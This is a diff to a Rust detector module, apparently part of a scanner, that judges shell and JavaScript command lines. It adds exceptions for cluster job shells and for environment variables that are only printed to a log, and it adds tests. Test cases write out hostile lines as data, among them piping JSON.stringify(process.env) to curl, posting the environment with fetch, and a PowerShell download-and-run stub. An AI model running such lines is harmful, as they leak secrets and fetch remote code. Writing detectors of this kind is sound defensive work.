@@ -1,5 +1,7 @@
 //! Commands, judged by the line they stand in: what is started, fetched, sent and overwritten there.
 
+use memchr::memmem;
+
 use super::holds;
 use super::validate::{Evidence, Verdict, command_end, unless};
 
@@ -13,8 +15,10 @@ fn last_command(text: &[u8]) -> &[u8] {
     text.rsplit(|byte| b";|&(`\n".contains(byte)).next().unwrap_or_default()
 }
 
-/// A shell that is an account's, that of another root, or spoken of, is not another program's way out.
+/// A shell that is an account's, that of another root, a job of a cluster, or spoken of, is not another program's
+/// way out.
 pub(super) fn shell_named(evidence: &Evidence<'_>) -> Verdict {
+    const PLACED: [&[u8]; 4] = [b"srun", b"salloc", b"bsub", b"qlogin"];
     const IN_PROSE: [&[u8]; 16] = [
         b"the", b"a", b"an", b"of", b"to", b"with", b"and", b"or", b"for", b"is", b"as", b"by",
         b"from", b"that", b"which", b"using",
@@ -30,6 +34,9 @@ pub(super) fn shell_named(evidence: &Evidence<'_>) -> Verdict {
     let shell = all.iter().position(|word| word.starts_with(b"/bin/"));
     let option = shell.and_then(|at| all.get(at.checked_sub(1)?));
     if sets_shell && option.is_some_and(|option| matches!(*option, b"-s" | b"--shell")) {
+        return Verdict::Fails;
+    }
+    if PLACED.into_iter().any(has) {
         return Verdict::Fails;
     }
     let mut own = words(&matched);
@@ -131,6 +138,16 @@ pub(super) fn sent_output(evidence: &Evidence<'_>) -> Verdict {
     )
 }
 
+/// The environment in a program's own log: nothing is sent, unless a shell reads what is printed.
+pub(super) fn only_printed(evidence: &Evidence<'_>) -> Verdict {
+    const SHELLED: [&[u8]; 3] = [b" -e", b" -p", b"eval"];
+    let Some(at) = memmem::rfind(evidence.before, b"console.") else { return Verdict::Silent };
+    let (lead, call) = evidence.before.split_at_checked(at).unwrap_or_default();
+    let is_argument = call.contains(&b'(') && !call.iter().any(|byte| b");".contains(byte));
+    let is_shelled = SHELLED.iter().any(|word| holds(lead, word));
+    unless(is_argument && !is_shelled && holds(evidence.matched, b"stringify"))
+}
+
 /// Whether the word that a command ends in is the value of `-o`, as `backup-` in `curl -o backup-$(…)`.
 fn is_file_name(command: &[u8]) -> bool {
     let start = command.iter().rposition(|byte| *byte == b' ').unwrap_or_default();
@@ -219,6 +236,8 @@ mod tests {
                 "env shell instead of default /bin/sh",
                 Verdict::Fails,
             ),
+            ("srun --pty /bin/bash", " --pty /bin/bash", Verdict::Fails),
+            ("srun x; vim --pty /bin/bash", " --pty /bin/bash", Verdict::Silent),
             ("chroot / /bin/sh", "chroot / /bin/sh", Verdict::Silent),
             ("chsh -s x; sudo env /bin/sh", "env /bin/sh", Verdict::Silent),
             ("script -q /dev/null /bin/sh", "script -q /dev/null /bin/sh", Verdict::Silent),
@@ -272,6 +291,20 @@ mod tests {
             ("IEX (New-Object Net.WebClient)", "IEX (New-Object ", Verdict::Silent),
         ] {
             assert_eq!(judged(piped_download, line, matched), verdict, "{line}");
+        }
+    }
+
+    #[test]
+    fn an_environment_that_a_program_logs_is_not_sent_off() {
+        let all = "JSON.stringify(process.env)";
+        for (line, verdict) in [
+            ("console.log(JSON.stringify(process.env))", Verdict::Fails),
+            ("console.error('env', JSON.stringify(process.env))", Verdict::Fails),
+            ("console.log(1); post(u, JSON.stringify(process.env))", Verdict::Silent),
+            ("fetch(u, {body: JSON.stringify(process.env)})", Verdict::Silent),
+            ("node -e 'console.log(JSON.stringify(process.env))' | curl -d @- h", Verdict::Silent),
+        ] {
+            assert_eq!(judged(only_printed, line, all), verdict, "{line}");
         }
     }
 
